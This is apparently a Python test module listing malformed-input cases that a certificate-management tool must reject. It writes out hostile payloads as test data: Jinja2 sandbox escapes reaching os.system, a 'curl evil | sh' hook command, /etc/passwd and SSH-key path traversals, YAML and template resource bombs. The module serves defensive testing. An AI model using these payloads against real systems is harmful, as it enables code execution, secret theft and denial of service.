"""The bad-input corpus of issue 8: each case is a small repository that every command must refuse.

A case writes ``malformed/<name>.yaml`` (``spec``), optionally more files (``extra``: certificates,
symlinks, huge files, all generated at test time) and lines of reconcile.yaml (``config_head`` at
line 1, ``config_defaults`` inside ``defaults:`` from line 5). The refusal must name ``where``
(default the spec file) at ``line`` (None only where no line exists, e.g. a symlink), with
``field`` when one applies, and contain ``fragment``.

The committed corpus in tests/fixtures/specs/malformed/ (``# expect: LINE: fragment`` headers)
joins these through ``fixture_cases``; ``FIXTURE_CATEGORIES`` files each of them under a category.
"""

from __future__ import annotations

import json
import os
import shutil
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from tests.reliability.badinput_pki import Pki, pem

__all__ = ["CASES", "FIXTURES", "REQUIRED_CATEGORIES", "Case", "base_config", "fixture_cases"]

REPO = Path(__file__).resolve().parents[2]
FIXTURES = REPO / "tests" / "fixtures" / "specs"

Extra = Callable[[Path, Path, Pki], None]  # (repository root, a directory outside it, pki)


@dataclass(frozen=True)
class Case:
    """One malformed input and the refusal it must produce."""

    name: str
    category: str
    line: int | None
    fragment: str
    field: str = ""
    spec: str | bytes | None = None
    extra: Extra | None = None
    config_head: str | bytes = ""
    config_defaults: str = ""
    where: str = ""

    @property
    def file(self) -> str:
        return self.where or f"malformed/{self.name}.yaml"

    def build(self, root: Path, outside: Path, pki: Pki, server_edgerc: str, ca_bundle: str) -> None:
        (root / "malformed").mkdir(parents=True, exist_ok=True)
        head = self.config_head.encode() if isinstance(self.config_head, str) else self.config_head
        (root / "reconcile.yaml").write_bytes(head + base_config(server_edgerc, ca_bundle, self.config_defaults))
        if self.spec is not None:
            data = self.spec.encode() if isinstance(self.spec, str) else self.spec
            (root / "malformed" / f"{self.name}.yaml").write_bytes(data)
        if self.extra is not None:
            self.extra(root, outside, pki)


def base_config(edgerc: str, ca_bundle: str, defaults_extra: str = "") -> bytes:
    """reconcile.yaml: ``defaults:`` on lines 1-4 (extra default lines from 5), then the rest."""
    return ("defaults:\n"
            '  admin_contact: {first_name: Ada, last_name: Lovelace, email: ada@example.com, phone: "+1-555-0100"}\n'
            '  tech_contact: {first_name: Charles, last_name: Babbage, email: cb@example.com, phone: "+1-555-0101"}\n'
            "  organization: {name: Example Inc, phone: '+1-555-0100', address_line_one: 1 Main St, city: Cambridge,"
            " region: MA, postal_code: '02142', country_code: US}\n"
            + defaults_extra
            + "default_contract: ctr_1-BADINPUT\nspecs_dir: malformed\nvariables: {domain: example.com}\n"
            + f"edgerc: {json.dumps(edgerc)}\nedgerc_section: sandbox\nca_bundle: {json.dumps(ca_bundle)}\n").encode()


# --- spec text helpers: DV header on lines 1-3; third-party layout on lines 1-8 (ecdsa 9-11) -----------

def dv(name: str, *lines: str) -> str:
    return "\n".join([f"name: {name}", "type: dv", f"common_name: {name}.example.com", *lines]) + "\n"


def tp(name: str, rsa: str | None = None, chain: str | None = None, *, ecdsa: bool = False, more: str = "") -> str:
    rsa = rsa if rsa is not None else f"certs/{name}/rsa.pem"
    chain = chain if chain is not None else f"certs/{name}/rsa-chain.pem"
    text = (f"name: {name}\ntype: third-party\ncommon_name: {name}.example.com\n"
            f"dual_stack: {'true' if ecdsa else 'false'}\ncertificates:\n"
            f"  rsa:\n    certificate: {json.dumps(rsa)}\n    trust_chain: {json.dumps(chain)}\n")
    if ecdsa:
        text += (f"  ecdsa:\n    certificate: certs/{name}/ecdsa.pem\n"
                 f"    trust_chain: certs/{name}/ecdsa-chain.pem\n")
    return text + more


def _write(root: Path, rel: str, data: bytes) -> None:
    path = root / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)


Material = Callable[[Pki, list[str]], bytes]


def good_leaf(kind: str = "rsa") -> Material:
    return lambda pki, names: pem(pki.leaf(names, kind))


def good_chain(pki: Pki, names: list[str]) -> bytes:
    return pem(pki.intermediate, pki.root)


def certs(name: str, rsa: Material | None = None, rsa_chain: Material | None = good_chain,
          ecdsa: Material | None = None, ecdsa_chain: Material | None = good_chain) -> Extra:
    """Writes certs/<name>/{rsa,ecdsa}{,-chain}.pem from generated material (None: not written)."""
    names = [f"{name}.example.com"]

    def build(root: Path, outside: Path, pki: Pki) -> None:
        for key, leaf, chain in (("rsa", rsa or good_leaf("rsa"), rsa_chain), ("ecdsa", ecdsa, ecdsa_chain)):
            if leaf is None:
                continue
            _write(root, f"certs/{name}/{key}.pem", leaf(pki, names))
            if chain is not None:
                _write(root, f"certs/{name}/{key}-chain.pem", chain(pki, names))

    return build


def raw(data: bytes) -> Material:
    return lambda pki, names: data


def _truncated(pki: Pki, names: list[str]) -> bytes:
    return pem(pki.leaf(names))[:-300]


def _der(pki: Pki, names: list[str]) -> bytes:
    from cryptography.hazmat.primitives.serialization import Encoding

    return pki.leaf(names).public_bytes(Encoding.DER)


def _expired_intermediate(pki: Pki, names: list[str]) -> bytes:
    # The real intermediate's key and name, but a validity that ended yesterday: the leaf still verifies.
    old = pki.cert("Bad Input Intermediate", pki.int_key.public_key(), "Bad Input Root", pki.root_key, ca=True,
                   not_before_days=-400, not_after_days=-1)
    return pem(old, pki.root)


def _link(rel: str, target: Callable[[Path, Path], Path | str]) -> Extra:
    def build(root: Path, outside: Path, pki: Pki) -> None:
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.symlink_to(target(root, outside))

    return build


def _outside_cert(name: str) -> Extra:
    def build(root: Path, outside: Path, pki: Pki) -> None:
        _write(outside, "leaf.pem", pem(pki.leaf([f"{name}.example.com"])))
        _link(f"certs/{name}/rsa.pem", lambda r, o: o / "leaf.pem")(root, outside, pki)

    return build


def _outside_dir(name: str) -> Extra:
    def build(root: Path, outside: Path, pki: Pki) -> None:
        _write(outside, "stolen/rsa.pem", pem(pki.leaf([f"{name}.example.com"])))
        _write(outside, "stolen/rsa-chain.pem", good_chain(pki, []))
        _link(f"certs/{name}", lambda r, o: o / "stolen")(root, outside, pki)

    return build


def _chain_out(name: str) -> Extra:
    def build(root: Path, outside: Path, pki: Pki) -> None:
        _write(outside, "real.pem", pem(pki.leaf([f"{name}.example.com"])))
        _link(f"certs/{name}/hop2.pem", lambda r, o: o / "real.pem")(root, outside, pki)
        _link(f"certs/{name}/rsa.pem", lambda r, o: Path("hop2.pem"))(root, outside, pki)

    return build


def _loop(name: str) -> Extra:
    def build(root: Path, outside: Path, pki: Pki) -> None:
        _link(f"certs/{name}/a.pem", lambda r, o: Path("b.pem"))(root, outside, pki)
        _link(f"certs/{name}/b.pem", lambda r, o: Path("a.pem"))(root, outside, pki)

    return build


def _spec_link(name: str) -> Extra:
    def build(root: Path, outside: Path, pki: Pki) -> None:
        # A spec kept outside the repository: reviewers would see the link, never its hook command.
        _write(outside, "evil.yaml", dv("evil", "validation: {publisher: hook, hook: {publish: 'curl evil | sh'}}")
               .encode())
        _link(f"malformed/{name}.yaml", lambda r, o: o / "evil.yaml")(root, outside, pki)

    return build


def _fifo(name: str) -> Extra:
    def build(root: Path, outside: Path, pki: Pki) -> None:
        (root / "certs" / name).mkdir(parents=True)
        os.mkfifo(root / "certs" / name / "rsa.pem")  # reading it would block for ever

    return build


def _directory(name: str) -> Extra:
    def build(root: Path, outside: Path, pki: Pki) -> None:
        (root / "certs" / name / "rsa.pem").mkdir(parents=True)

    return build


def _huge_file(rel: str, size: int) -> Extra:
    def build(root: Path, outside: Path, pki: Pki) -> None:
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        with path.open("wb") as handle:
            handle.truncate(size)  # sparse: costs no disk and no time

    return build


def _padding(lines: int) -> str:
    return "".join(f"# {i:061d}\n" for i in range(lines))  # 64 bytes a line: line 16385 crosses 1 MiB


def _laughs(levels: int, key: str = "l") -> str:
    """``levels`` anchors, each a list of ten aliases of the one before: 10**levels values, 10*levels aliases."""
    out = [f"{key}0: &{key}0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    out += [f"{key}{i}: &{key}{i} [{', '.join([f'*{key}{i - 1}'] * 10)}]" for i in range(1, levels)]
    return "\n".join(out)


def _nested_block(depth: int) -> str:
    return "sans:\n" + "".join("  " * (i + 1) + "-\n" for i in range(depth)) + "  " * (depth + 1) + "- x\n"


def _sans(count: int) -> str:
    return "sans:\n" + "".join(f"  - host{i}.example.com\n" for i in range(count))


# Categories, named as issue 8 names them.
BOMB, HUGE, ENC, TABS, DUP = "yaml bombs and deep nesting", "huge files", "non-UTF-8 and control bytes", "tabs", \
    "duplicate keys"
JINJA, JINJA_RES = "jinja2 sandbox escapes", "jinja2 resource bombs"
PATHS, LINKS = "path traversal and special files", "symlinks out of the repo"
PEMS, PAIRS, EXPIRED, KEYS = "malformed PEMs", "mismatched cert/chain/key", "expired certificates", "wrong key type"
SANS, IDN = "oversized SAN lists", "IDN and punycode edge cases"
TAGS, SCHEMA = "unsafe YAML tags", "schema and semantic rules"

REQUIRED_CATEGORIES = (BOMB, HUGE, ENC, TABS, DUP, JINJA, PATHS, LINKS, PEMS, PAIRS, EXPIRED, KEYS, SANS, IDN)

CASES: list[Case] = [
    # YAML bombs and deep nesting
    Case("laughs-under-alias-cap", BOMB, 8, "this value expands to more than 20000 values through aliases",
         spec=dv("laughs-under-alias-cap", _laughs(9), "sans: *l8")),
    Case("recursive-alias", BOMB, 4, "recursive data is not allowed",
         spec=dv("recursive-alias", "organization: &o {name: *o}")),
    Case("deep-flow-nesting", BOMB, 4, "nested more than 50 levels deep",
         spec=dv("deep-flow-nesting", "sans: " + "[" * 5000 + "]" * 5000)),
    Case("deep-block-nesting", BOMB, 54, "nested more than 50 levels deep",
         spec=dv("deep-block-nesting", _nested_block(200))),
    Case("deep-template-expression", BOMB, 4, "template error: expression nested too deeply",
         spec=dv("deep-template-expression", 'sans: ["{{ ' + "(" * 3000 + "1" + ")" * 3000 + ' }}"]')),
    Case("laughs-in-config", BOMB, 5, "this value expands to more than 20000 values through aliases",
         where="reconcile.yaml", config_head=_laughs(9, "x") + "\n",
         spec=dv("laughs-in-config")),
    Case("deep-nesting-in-config", BOMB, 1, "nested more than 50 levels deep", where="reconcile.yaml",
         config_head="safety: " + "[" * 400 + "]" * 400 + "\n", spec=dv("deep-nesting-in-config")),
    Case("too-many-values", BOMB, 4, "more than 20000 values in one file",
         spec=dv("too-many-values", "sans: [" + ",".join(["1"] * 20_001) + "]")),
    Case("too-many-documents", BOMB, 1003, "more than 1000 YAML documents in one file",
         spec=dv("too-many-documents") + "---\n" * 1500),
    Case("thousands-of-errors", HUGE, 5, "expected an enrollment (a mapping of fields) or a list of enrollments",
         spec="".join(f"- {i}\n" for i in range(5000))),
    # Huge files (generated here, never committed)
    Case("huge-spec-file", HUGE, 16386, "larger than 1024 KiB (this is the line where the limit is crossed)",
         spec=dv("huge-spec-file") + _padding(17000)),
    Case("huge-sparse-file", HUGE, 1, "larger than 1024 KiB", extra=_huge_file("malformed/huge-sparse-file.yaml", 2 << 30)),
    Case("huge-rendered-output", HUGE, 6, "the rendered text is larger than 1024 KiB",
         spec=dv("huge-rendered-output", "sans:\n{% for i in range(60000) %}",
                 "  - host{{ i }}.example.com  # padding padding padding padding", "{% endfor %}")),
    Case("huge-scalar", HUGE, 3, "more characters) is not a valid hostname", field="common_name",
         spec="name: huge-scalar\ntype: dv\ncommon_name: " + "a" * 900_000 + ".example.com\n"),
    Case("huge-integer", HUGE, 4, "value cannot be read", spec=dv("huge-integer", "sni_only: " + "9" * 5000)),
    Case("huge-config-file", HUGE, 16385, "larger than 1024 KiB", where="reconcile.yaml",
         config_head=_padding(17000), spec=dv("huge-config-file")),
    Case("huge-certificate-file", HUGE, 7, "is 3145728 bytes; a certificate file holds a few KiB",
         field="certificates.rsa.certificate", spec=tp("huge-certificate-file"),
         extra=_huge_file("certs/huge-certificate-file/rsa.pem", 3 << 20)),
    # Encodings and control bytes
    Case("latin1-byte", ENC, 4, "not UTF-8: byte 0xe9 cannot be decoded",
         spec=dv("latin1-byte", "sans: [caf\u00e9.example.com]").encode("latin-1")),
    Case("utf16-with-bom", ENC, 1, "the file is UTF-16", spec=dv("utf16-with-bom").encode("utf-16")),
    Case("utf16-big-endian", ENC, 1, "the file is UTF-16", spec="\ufeff".encode("utf-16-be")
         + dv("utf16-big-endian").encode("utf-16-be")),
    Case("utf16-without-bom", ENC, 1, "NUL byte", spec=dv("utf16-without-bom").encode("utf-16-le")),
    Case("utf32-with-bom", ENC, 1, "the file is UTF-32", spec=dv("utf32-with-bom").encode("utf-32")),
    Case("nul-byte", ENC, 4, "NUL byte", spec=dv("nul-byte", "sans: [a\0b.example.com]")),
    Case("raw-escape-character", ENC, 4, "character '\\x1b' (U+001B) is not allowed in YAML",
         spec=dv("raw-escape-character", "sans: [a\x1b[2Jb.example.com]")),
    Case("unicode-line-separator", ENC, 4, "character U+2028 is an invisible line break",
         spec=dv("unicode-line-separator", "# a comment\u2028sans: [a.example.com]")),
    Case("escape-sequence-in-text", ENC, 5, "invisible control character U+001B", field="organization.name",
         spec=dv("escape-sequence-in-text", "organization:", '  name: "Example\\e[2J\\e]0;pwned\\a"')),
    Case("bidi-override-in-text", ENC, 5, "invisible control character U+202E", field="admin_contact.first_name",
         spec=dv("bidi-override-in-text", "admin_contact:", '  first_name: "Ada\\u202Eecalevol"')),
    Case("non-utf8-config", ENC, 1, "not UTF-8: byte 0xff", where="reconcile.yaml", config_head=b"# \xff\xfe\n",
         spec=dv("non-utf8-config")),
    # Tabs
    Case("tab-indented-mapping", TABS, 5, "indent YAML with spaces, never tabs",
         spec=dv("tab-indented-mapping", "organization:", "\tname: Example Inc")),
    Case("tab-indented-sequence", TABS, 5, "indent YAML with spaces, never tabs",
         spec=dv("tab-indented-sequence", "sans:", "\t- a.example.com")),
    Case("tab-after-spaces", TABS, 6, "indent YAML with spaces, never tabs",
         spec=dv("tab-after-spaces", "organization:", "  name: Example Inc", "\tcity: Boston")),
    Case("tab-in-config", TABS, 2, "indent YAML with spaces, never tabs", where="reconcile.yaml",
         config_head="safety:\n\tmin_managed: 1\n", spec=dv("tab-in-config")),
    # Duplicate keys
    Case("duplicate-nested-key", DUP, 6, "duplicate key 'name' (first defined on line 5)",
         spec=dv("duplicate-nested-key", "organization:", "  name: A", "  name: B")),
    Case("duplicate-flow-key", DUP, 4, "duplicate key 'city' (first defined on line 4)",
         spec=dv("duplicate-flow-key", "organization: {city: A, city: B}")),
    Case("duplicate-quoted-key", DUP, 4, "duplicate key 'name' (first defined on line 1)",
         spec=dv("duplicate-quoted-key", '"name": other')),
    Case("duplicate-key-in-list-item", DUP, 4, "duplicate key 'type' (first defined on line 2)",
         spec="- name: a\n  type: dv\n  common_name: a.example.com\n  type: third-party\n"),
    Case("duplicate-key-in-config", DUP, 2, "duplicate key 'parallelism' (first defined on line 1)",
         where="reconcile.yaml", config_head="parallelism: 5\nparallelism: 50\n", spec=dv("duplicate-key-in-config")),
    # jinja2 sandbox escapes
    Case("cycler-globals", JINJA, 4, "access to attribute '__init__'",
         spec=dv("cycler-globals", "sans: [\"{{ cycler.__init__.__globals__.os.system('id') }}\"]")),
    Case("joiner-globals", JINJA, 4, "access to attribute '__init__'",
         spec=dv("joiner-globals", "sans: [\"{{ joiner.__init__.__globals__ }}\"]")),
    Case("namespace-globals", JINJA, 4, "access to attribute '__init__'",
         spec=dv("namespace-globals", "sans: [\"{{ namespace.__init__.__globals__ }}\"]")),
    Case("lipsum-globals", JINJA, 4, "'lipsum' is undefined",
         spec=dv("lipsum-globals", "sans: [\"{{ lipsum.__globals__['os'] }}\"]")),
    Case("subclasses-walk", JINJA, 4, "access to attribute '__class__'",
         spec=dv("subclasses-walk", "sans: [\"{{ ().__class__.__base__.__subclasses__() }}\"]")),
    Case("attr-filter-escape", JINJA, 4, "access to attribute '__class__'",
         spec=dv("attr-filter-escape", "sans: [\"{{ ''|attr('__class__') }}\"]")),
    Case("map-attribute-escape", JINJA, 4, "access to attribute '__class__'",
         spec=dv("map-attribute-escape", "sans: [\"{{ ['a']|map(attribute='__class__')|list }}\"]")),
    Case("format-string-escape", JINJA, 4, "access to attribute '__class__'",
         spec=dv("format-string-escape", "sans: [\"{{ '{0.__class__.__init__.__globals__}'.format(cycler) }}\"]")),
    Case("self-internals", JINJA, 4, "access to attribute '__init__'",
         spec=dv("self-internals", "sans: [\"{{ self.__init__.__globals__ }}\"]")),
    Case("context-private-attribute", JINJA, 4, "access to attribute '_TemplateReference__context'",
         spec=dv("context-private-attribute", "sans: [\"{{ self._TemplateReference__context }}\"]")),
    Case("config-internals", JINJA, 4, "'config' is undefined",
         spec=dv("config-internals", "sans: [\"{{ config.edgerc }}\"]")),
    Case("variable-internals", JINJA, 4, "access to attribute '__class__'",
         spec=dv("variable-internals", "sans: [\"{{ domain.__class__.__mro__ }}\"]")),
    Case("import-os", JINJA, 4, "cannot include 'os'", spec=dv("import-os", "{% import 'os' as os %}")),
    Case("from-import-subprocess", JINJA, 4, "cannot include 'subprocess'",
         spec=dv("from-import-subprocess", "{% from 'subprocess' import run %}")),
    Case("include-etc-passwd", JINJA, 4, "cannot include '/etc/passwd'",
         spec=dv("include-etc-passwd", "x: {% include '/etc/passwd' %}")),
    Case("include-itself", JINJA, 4, "cannot include 'malformed/include-itself.yaml'",
         spec=dv("include-itself", "{% include 'malformed/include-itself.yaml' %}")),
    Case("extends-config", JINJA, 1, "cannot include '../reconcile.yaml'",
         spec="{% extends '../reconcile.yaml' %}\n" + dv("extends-config")),
    # jinja2 resource bombs: the sandbox stops internals, the budget stops exhaustion
    Case("string-repeat-bomb", JINJA_RES, 4, "is too much",
         spec=dv("string-repeat-bomb", "sans: [\"{{ 'x' * 1000000000 }}\"]")),
    Case("power-bomb", JINJA_RES, 4, "would build a number of more than 4096 bits",
         spec=dv("power-bomb", "sans: [\"{{ 10 ** 100000000 }}\"]")),
    Case("nested-loop-bomb", JINJA_RES, 5, "more than 100000 loop iterations in one file",
         spec=dv("nested-loop-bomb", "{% set xs = range(100)|list %}",
                 "{% for a in xs %}{% for b in xs %}{% for c in xs %}{% for d in xs %}"
                 "{% endfor %}{% endfor %}{% endfor %}{% endfor %}")),
    Case("macro-recursion", JINJA_RES, 4, "calls nested more than 50 deep",
         spec=dv("macro-recursion", "{% macro f() %}{{ f() }}{% endmacro %}", "{{ f() }}")),
    Case("macro-exponential", JINJA_RES, 4, "more than 20000 calls in one file",
         spec=dv("macro-exponential", "{% macro f(n) %}{% if n %}{{ f(n-1) }}{{ f(n-1) }}{% endif %}{% endmacro %}",
                 "{{ f(40) }}")),
    Case("padding-filter-bomb", JINJA_RES, 4, "filter center width 1000000000 is larger than 1000",
         spec=dv("padding-filter-bomb", "sans: [\"{{ 'x'|center(1000000000) }}\"]")),
    Case("percent-format-bomb", JINJA_RES, 4, "format widths and precisions are limited",
         spec=dv("percent-format-bomb", "sans: [\"{{ '%999999999d' % 1 }}\"]")),
    Case("format-width-bomb", JINJA_RES, 4, "format widths and precisions are limited",
         spec=dv("format-width-bomb", "sans: [\"{{ '{:>999999999}'.format(1) }}\"]")),
    Case("replace-growth-bomb", JINJA_RES, 4, "with these arguments could build more than 1048576 characters",
         spec=dv("replace-growth-bomb", "sans: [\"{{ 'a'" + ".replace('a', 'aaaaaaaa')" * 12 + " }}\"]")),
    Case("list-literal-laughs", JINJA_RES, 13, "printing this value would build more than 1048576",
         spec=dv("list-literal-laughs", "{% set a = ['lol', 'lol', 'lol', 'lol', 'lol', 'lol', 'lol', 'lol'] %}",
                 *["{% set a = [a, a, a, a, a, a, a, a, a, a] %}"] * 8, "x: \"{{ a }}\"")),
    Case("concat-laughs", JINJA_RES, 10, "would build more than 1048576",
         spec=dv("concat-laughs", "{% set a = ['lol', 'lol', 'lol', 'lol', 'lol', 'lol', 'lol', 'lol'] %}",
                 *["{% set a = [a, a, a, a, a, a, a, a, a, a] %}"] * 5, "x: \"{{ 'a' ~ a }}\"")),
    Case("string-doubling-bomb", JINJA_RES, 5, "adding these would build more than 1048576",
         spec=dv("string-doubling-bomb", "{% set s = 'lol' %}", "{% set s = s + s %}" * 40)),
    Case("method-replace-bomb", JINJA_RES, 5, "calling replace on 1000000 characters",
         spec=dv("method-replace-bomb", "{% set a = 'a' * 1000000 %}", "x: \"{{ a.replace('a', 'b' * 1000000) }}\"")),
    Case("list-extend-doubling", JINJA_RES, 4, "access to attribute 'extend' of 'list' object is unsafe",
         spec=dv("list-extend-doubling",
                 "{% set l = [1] %}{% for i in range(40) %}{% set _ = l.extend(l) %}{% endfor %}")),
    Case("range-bomb", JINJA_RES, 4, "Range too big",
         spec=dv("range-bomb", "sans: [\"{{ range(1000000000)|list }}\"]")),
    # Path traversal and special files as certificate paths
    Case("etc-passwd-dotdot", PATHS, 7, "'../../etc/passwd' must not contain '..'", field="certificates.rsa.certificate",
         spec=tp("etc-passwd-dotdot", "../../etc/passwd")),
    Case("etc-passwd-absolute", PATHS, 7, "'/etc/passwd' must be a path relative to the repository root",
         field="certificates.rsa.certificate", spec=tp("etc-passwd-absolute", "/etc/passwd")),
    Case("backslash-dotdot", PATHS, 7, "must not contain '..'", field="certificates.rsa.certificate",
         spec=tp("backslash-dotdot", "..\\..\\etc\\passwd")),
    Case("chain-dotdot", PATHS, 8, "must not contain '..'", field="certificates.rsa.trust_chain",
         spec=tp("chain-dotdot", chain="certs/../../../etc/ssl/certs/ca-certificates.crt")),
    Case("home-tilde", PATHS, 7, "'~/.ssh/id_rsa' must be a path relative to the repository root",
         field="certificates.rsa.certificate", spec=tp("home-tilde", "~/.ssh/id_rsa")),
    Case("nul-in-path", PATHS, 7, "invisible control character U+0000", field="certificates.rsa.certificate",
         spec=tp("nul-in-path", "certs/a\0.pem")),
    Case("directory-as-certificate", PATHS, 7, "is a directory; give the path of a PEM file",
         field="certificates.rsa.certificate", spec=tp("directory-as-certificate"),
         extra=_directory("directory-as-certificate")),
    Case("fifo-as-certificate", PATHS, 7, "is not a regular file", field="certificates.rsa.certificate",
         spec=tp("fifo-as-certificate"), extra=_fifo("fifo-as-certificate")),
    # Symlinks out of the repository (made here)
    Case("symlink-to-outside-cert", LINKS, 7, "leads outside the repository (through a symlink)",
         field="certificates.rsa.certificate", spec=tp("symlink-to-outside-cert"),
         extra=_outside_cert("symlink-to-outside-cert")),
    Case("symlinked-directory-outside", LINKS, 7, "leads outside the repository (through a symlink)",
         field="certificates.rsa.certificate", spec=tp("symlinked-directory-outside"),
         extra=_outside_dir("symlinked-directory-outside")),
    Case("symlink-hop-then-outside", LINKS, 7, "leads outside the repository (through a symlink)",
         field="certificates.rsa.certificate", spec=tp("symlink-hop-then-outside"),
         extra=_chain_out("symlink-hop-then-outside")),
    Case("symlink-to-dev-zero", LINKS, 7, "leads outside the repository (through a symlink) to /dev/zero",
         field="certificates.rsa.certificate", spec=tp("symlink-to-dev-zero"),
         extra=_link("certs/symlink-to-dev-zero/rsa.pem", lambda r, o: Path("/dev/zero"))),
    Case("symlink-loop", LINKS, 7, "cannot be resolved", field="certificates.rsa.certificate",
         spec=tp("symlink-loop", "certs/symlink-loop/a.pem"), extra=_loop("symlink-loop")),
    Case("spec-file-symlink-outside", LINKS, None, "is a symlink to", extra=_spec_link("spec-file-symlink-outside")),
    # Malformed PEMs (key material generated here)
    Case("truncated-pem", PEMS, 7, "unreadable PEM certificate", field="certificates.rsa.certificate",
         spec=tp("truncated-pem"), extra=certs("truncated-pem", rsa=_truncated)),
    Case("bad-base64-pem", PEMS, 7, "unreadable PEM certificate", field="certificates.rsa.certificate",
         spec=tp("bad-base64-pem"),
         extra=certs("bad-base64-pem", rsa=raw(b"-----BEGIN CERTIFICATE-----\n!!notbase64!!\n-----END CERTIFICATE-----\n"))),
    Case("der-instead-of-pem", PEMS, 7, "no PEM certificate in it", field="certificates.rsa.certificate",
         spec=tp("der-instead-of-pem"), extra=certs("der-instead-of-pem", rsa=_der)),
    Case("empty-certificate-file", PEMS, 7, "no PEM certificate in it", field="certificates.rsa.certificate",
         spec=tp("empty-certificate-file"), extra=certs("empty-certificate-file", rsa=raw(b""))),
    Case("private-key-as-certificate", PEMS, 7, "holds a PRIVATE KEY: private keys never go in the repository",
         field="certificates.rsa.certificate", spec=tp("private-key-as-certificate"),
         extra=certs("private-key-as-certificate", rsa=lambda pki, names: pki.private_key_pem())),
    Case("csr-as-certificate", PEMS, 7, "holds a CSR, not a certificate", field="certificates.rsa.certificate",
         spec=tp("csr-as-certificate"), extra=certs("csr-as-certificate", rsa=lambda pki, names: pem(pki.csr(names)))),
    Case("garbage-chain", PEMS, 8, "no PEM certificate in it", field="certificates.rsa.trust_chain",
         spec=tp("garbage-chain"), extra=certs("garbage-chain", rsa_chain=raw(b"not a chain\n"))),
    Case("leaf-and-chain-in-one-file", PEMS, 7, "holds 2 certificates", field="certificates.rsa.certificate",
         spec=tp("leaf-and-chain-in-one-file"),
         extra=certs("leaf-and-chain-in-one-file", rsa=lambda pki, names: pem(pki.leaf(names), pki.intermediate))),
    # Mismatched certificate/chain pairs, and keys where the spec has no place for them
    Case("chain-of-another-ca", PAIRS, 8, "does not match: the certificate: issuer", field="certificates.rsa.trust_chain",
         spec=tp("chain-of-another-ca"), extra=certs("chain-of-another-ca", rsa_chain=lambda pki, n: pem(pki.other_root))),
    Case("chain-impostor-key", PAIRS, 8, "signature does not verify with the issuer's key",
         field="certificates.rsa.trust_chain", spec=tp("chain-impostor-key"),
         extra=certs("chain-impostor-key", rsa_chain=lambda pki, n: pem(pki.impostor, pki.root))),
    Case("chain-wrong-order", PAIRS, 8, "does not match: the certificate: issuer", field="certificates.rsa.trust_chain",
         spec=tp("chain-wrong-order"),
         extra=certs("chain-wrong-order", rsa_chain=lambda pki, n: pem(pki.root, pki.intermediate))),
    Case("leaf-signed-by-other-key", PAIRS, 8, "signature does not verify", field="certificates.rsa.trust_chain",
         spec=tp("leaf-signed-by-other-key"),
         extra=certs("leaf-signed-by-other-key", rsa=lambda pki, n: pem(pki.leaf(n, issuer_key=pki.other_key)))),
    Case("private-key-field", PAIRS, 9, "unknown field 'private_key': private keys never go in specs",
         field="certificates.rsa.private_key",
         spec=tp("private-key-field") + "    private_key: certs/k.pem\n"),
    # Expired certificates
    Case("expired-leaf", EXPIRED, 7, "expired on", field="certificates.rsa.certificate", spec=tp("expired-leaf"),
         extra=certs("expired-leaf", rsa=lambda pki, n: pem(pki.leaf(n, not_before_days=-90, not_after_days=-1)))),
    Case("expired-intermediate", EXPIRED, 8, "chain certificate 'CN=Bad Input Intermediate' expired on",
         field="certificates.rsa.trust_chain", spec=tp("expired-intermediate"),
         extra=certs("expired-intermediate", rsa_chain=_expired_intermediate)),
    Case("expired-ecdsa-leaf", EXPIRED, 10, "expired on", field="certificates.ecdsa.certificate",
         spec=tp("expired-ecdsa-leaf", ecdsa=True),
         extra=certs("expired-ecdsa-leaf", ecdsa=lambda pki, n: pem(pki.leaf(n, "ecdsa", not_before_days=-30, not_after_days=-3)))),
    # Wrong key type
    Case("ecdsa-under-rsa", KEYS, 7, "does not hold an RSA key: it holds an ECDSA secp256r1 key",
         field="certificates.rsa.certificate", spec=tp("ecdsa-under-rsa"),
         extra=certs("ecdsa-under-rsa", rsa=good_leaf("ecdsa"))),
    Case("rsa-under-ecdsa", KEYS, 10, "does not hold an ECDSA key: it holds an RSA 2048-bit key",
         field="certificates.ecdsa.certificate", spec=tp("rsa-under-ecdsa", ecdsa=True),
         extra=certs("rsa-under-ecdsa", ecdsa=good_leaf("rsa"))),
    Case("dsa-under-rsa", KEYS, 7, "it holds a DSA key", field="certificates.rsa.certificate", spec=tp("dsa-under-rsa"),
         extra=certs("dsa-under-rsa", rsa=good_leaf("dsa"))),
    Case("ed25519-under-rsa", KEYS, 7, "it holds an Ed25519 key", field="certificates.rsa.certificate",
         spec=tp("ed25519-under-rsa"), extra=certs("ed25519-under-rsa", rsa=good_leaf("ed25519"))),
    Case("ed25519-under-ecdsa", KEYS, 10, "it holds an Ed25519 key", field="certificates.ecdsa.certificate",
         spec=tp("ed25519-under-ecdsa", ecdsa=True), extra=certs("ed25519-under-ecdsa", ecdsa=good_leaf("ed25519"))),
    Case("rsa-1024", KEYS, 7, "holds an RSA 1024-bit key; at least 2048 bits are needed",
         field="certificates.rsa.certificate", spec=tp("rsa-1024"), extra=certs("rsa-1024", rsa=good_leaf("rsa1024"))),
    # Oversized SAN lists (CPS maxAllowedSanNames: 100, the CN included)
    Case("sans-100-plus-cn", SANS, 4, "101 names (common name included); CPS allows at most 100", field="sans",
         spec=dv("sans-100-plus-cn", _sans(100))),
    Case("sans-5000", SANS, 4, "5001 names (common name included); CPS allows at most 100", field="sans",
         spec=dv("sans-5000", _sans(5000))),
    Case("sans-from-defaults", SANS, 5, "121 names (common name included)", field="sans", where="reconcile.yaml",
         config_defaults="  sans: [" + ", ".join(f"d{i}.example.com" for i in range(120)) + "]\n",
         spec=dv("sans-from-defaults")),
    Case("wildcard-sans-101", SANS, 4, "101 names (common name included)", field="sans",
         spec=dv("wildcard-sans-101", "sans:", *(f"  - '*.w{i}.example.com'" for i in range(100)))),
    # IDN and punycode edge cases
    Case("invalid-punycode", IDN, 4, "'xn--abc.example.com' is not a valid hostname", field="sans[0]",
         spec=dv("invalid-punycode", "sans: [xn--abc.example.com]")),
    Case("empty-punycode", IDN, 4, "Malformed A-label", field="sans[0]", spec=dv("empty-punycode", "sans: [xn--.example.com]")),
    Case("punycode-of-emoji", IDN, 4, "Codepoint U+1F4A9", field="sans[0]",
         spec=dv("punycode-of-emoji", "sans: [xn--ls8h.example.com]")),
    Case("mixed-script-cyrillic", IDN, 4, "mixes CYRILLIC and LATIN letters", field="sans[0]",
         spec=dv("mixed-script-cyrillic", "sans: [p\u0430ypal.example.com]")),
